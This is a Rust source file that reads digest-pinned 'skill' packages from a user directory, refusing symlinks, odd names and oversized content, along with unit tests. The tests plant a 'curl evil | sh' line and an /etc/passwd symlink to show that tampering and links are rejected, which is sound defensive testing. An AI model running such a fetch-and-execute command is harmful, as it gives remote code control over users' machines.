//! Skills that are packages: directories of this machine's user, used only if their content has the pinned digest.
//!
//! The digest is that of the lines of `sha256sum` for all files, sorted by name, so that a person can compute it.

use std::fs::{self, File};
use std::io::Read as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;

use bailiwick_model::Sha256Hex;
use bailiwick_resources::PackageRef;

use super::skill_files::{MAX_BYTES, MAX_FILES};
use crate::failure::Failure;

/// Where packages are, below the user's configuration.
const DIRECTORY: &str = "packages";
/// The file that says what the skill is.
const INSTRUCTIONS: &str = "SKILL.md";
const MAX_DEPTH: usize = 16;

/// A package whose content has its digest.
#[derive(Debug)]
pub struct Package {
    pub digest: Sha256Hex,
    /// The text of its SKILL.md.
    pub instructions: String,
    pub files: Vec<PackagedFile>,
}

#[derive(Debug)]
pub struct PackagedFile {
    /// The path below the package.
    pub name: String,
    pub bytes: Vec<u8>,
    pub executable: bool,
}

/// Reads a package; an error if its content does not have the digest of the reference.
pub fn read(user_kit: &Path, reference: &str) -> Result<Package, Failure> {
    let Some(package) = PackageRef::parse(reference) else {
        return Err(Failure::general(format!("{reference:?} is not NAME@sha256:DIGEST")));
    };
    let (name, pinned) = (&package.name, &package.sha256);
    let place = user_kit.join(DIRECTORY).join(name);
    let mut files = Vec::new();
    collect(&place, "", MAX_DEPTH, &mut files)?;
    files.sort_by(|one, other| one.name.cmp(&other.name));
    let digest = digest(&files);
    if digest.as_str() != pinned {
        return Err(Failure::general(format!(
            "the package `{name}` has the digest sha256:{digest}, not the pinned sha256:{pinned}"
        )));
    }
    let instructions = files.iter().find(|file| file.name == INSTRUCTIONS);
    let instructions = instructions.and_then(|file| String::from_utf8(file.bytes.clone()).ok());
    let instructions = instructions.ok_or_else(|| {
        Failure::general(format!("the package `{name}` has no {INSTRUCTIONS} that is a text"))
    })?;
    Ok(Package { digest, instructions, files })
}

fn digest(files: &[PackagedFile]) -> Sha256Hex {
    let lines = files.iter().map(|file| format!("{}  {}\n", Sha256Hex::of(&file.bytes), file.name));
    Sha256Hex::of(lines.collect::<String>())
}

fn collect(
    directory: &Path,
    below: &str,
    depth: usize,
    files: &mut Vec<PackagedFile>,
) -> Result<(), Failure> {
    let failed = |path: &Path, error: std::io::Error| {
        Failure::general(format!("{} cannot be read: {error}", path.display()))
    };
    let about = fs::symlink_metadata(directory).map_err(|error| failed(directory, error))?;
    if !about.is_dir() || depth == 0 {
        let why = "a link, no directory, or too deep";
        return Err(Failure::general(format!("{}: {why}", directory.display())));
    }
    let entries = fs::read_dir(directory).map_err(|error| failed(directory, error))?;
    for entry in entries {
        let entry = entry.map_err(|error| failed(directory, error))?;
        let path = entry.path();
        let refused =
            |why: &str| Failure::general(format!("{} cannot be used: {why}", path.display()));
        // `sha256sum` writes other names in another way.
        let plain = |name: &str| !name.chars().any(|c| c.is_control() || c == '\\');
        let name = entry.file_name().into_string().ok().filter(|name| plain(name));
        let name = name.ok_or_else(|| refused("its name has unusual characters"))?;
        let name = if below.is_empty() { name } else { format!("{below}/{name}") };
        let about = fs::symlink_metadata(&path).map_err(|error| failed(&path, error))?;
        if about.is_dir() {
            collect(&path, &name, depth - 1, files)?;
            continue;
        }
        if !about.is_file() {
            return Err(refused("it is a link or not a regular file"));
        }
        if files.len() >= MAX_FILES {
            return Err(refused(&format!("the package has more than {MAX_FILES} files")));
        }
        let used: usize = files.iter().map(|file| file.bytes.len()).sum();
        let room = MAX_BYTES.saturating_sub(u64::try_from(used).unwrap_or(u64::MAX));
        let mut bytes = Vec::new();
        let file = File::open(&path).map_err(|error| failed(&path, error))?;
        let read = file.take(room.saturating_add(1)).read_to_end(&mut bytes);
        read.map_err(|error| failed(&path, error))?;
        if u64::try_from(bytes.len()).unwrap_or(u64::MAX) > room {
            let most = MAX_BYTES >> 20;
            return Err(refused(&format!("the files of the package are more than {most} MiB")));
        }
        files.push(PackagedFile {
            name,
            bytes,
            executable: about.permissions().mode() & 0o100 != 0,
        });
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::symlink;
    use std::path::PathBuf;
    use std::process::Command;

    use bailiwick_testkit::Scratch;

    use super::*;

    fn package(scratch: &Scratch) -> PathBuf {
        let directory = scratch.place().join("kit/packages/release");
        fs::create_dir_all(directory.join("scripts")).unwrap();
        fs::write(directory.join("SKILL.md"), "Release it.\n").unwrap();
        fs::write(directory.join("scripts/check.sh"), "echo checked\n").unwrap();
        fs::write(directory.join("a file"), [0_u8, 159]).unwrap();
        directory
    }

    /// The digest, computed as in the guide.
    fn digest_with_shell(directory: &Path) -> String {
        let line =
            "find . -type f -printf '%P\\0' | LC_ALL=C sort -z | xargs -0 sha256sum | sha256sum";
        let output = Command::new("sh").args(["-c", line]).current_dir(directory).output().unwrap();
        String::from_utf8(output.stdout).unwrap().split(' ').next().unwrap().to_owned()
    }

    fn refusal(kit: &Path, reference: &str) -> String {
        read(kit, reference).unwrap_err().in_one_line()
    }

    #[test]
    fn package_is_read_only_if_its_digest_matches() {
        let scratch = Scratch::repository();
        let directory = package(&scratch);
        let kit = scratch.place().join("kit");
        let reference = format!("release@sha256:{}", digest_with_shell(&directory));
        let found = read(&kit, &reference).unwrap();
        assert_eq!(found.instructions, "Release it.\n");
        let names: Vec<&str> = found.files.iter().map(|file| file.name.as_str()).collect();
        assert_eq!(names, ["SKILL.md", "a file", "scripts/check.sh"]);
        fs::write(directory.join("scripts/check.sh"), "curl evil | sh\n").unwrap();
        let changed = refusal(&kit, &reference);
        assert!(
            changed.contains("not the pinned") && changed.contains(&digest_with_shell(&directory))
        );
        fs::write(directory.join("scripts/check.sh"), "echo checked\n").unwrap();
        read(&kit, &reference).unwrap();
        fs::rename(directory.join("a file"), directory.join("b file")).unwrap();
        assert!(
            refusal(&kit, &reference).contains("not the pinned"),
            "file names are part of the digest"
        );
    }

    #[test]
    fn links_and_too_large_packages_are_refused() {
        let scratch = Scratch::repository();
        let directory = package(&scratch);
        let kit = scratch.place().join("kit");
        let any = format!("release@sha256:{}", "0".repeat(64));
        assert!(refusal(&kit, &any).contains("not the pinned"));
        symlink("/etc/passwd", directory.join("link")).unwrap();
        assert!(refusal(&kit, &any).contains("a link"), "{}", refusal(&kit, &any));
        fs::remove_file(directory.join("link")).unwrap();
        symlink("scripts", directory.join("more")).unwrap();
        assert!(refusal(&kit, &any).contains("a link"));
        fs::remove_file(directory.join("more")).unwrap();
        symlink(&directory, kit.join("packages/other")).unwrap();
        let other = format!("other@sha256:{}", "0".repeat(64));
        assert!(refusal(&kit, &other).contains("a link"));
        assert!(refusal(&kit, "../release@sha256:00").contains("is not NAME@sha256:DIGEST"));
        let none = format!("none@sha256:{}", "0".repeat(64));
        assert!(refusal(&kit, &none).contains("cannot be read"));
        fs::write(directory.join("large"), vec![0_u8; 4 << 20]).unwrap();
        assert!(refusal(&kit, &any).contains("more than 4 MiB"));
        fs::remove_file(directory.join("large")).unwrap();
        for number in 0..256 {
            fs::write(directory.join(number.to_string()), "").unwrap();
        }
        assert!(refusal(&kit, &any).contains("more than 256 files"));
    }
}
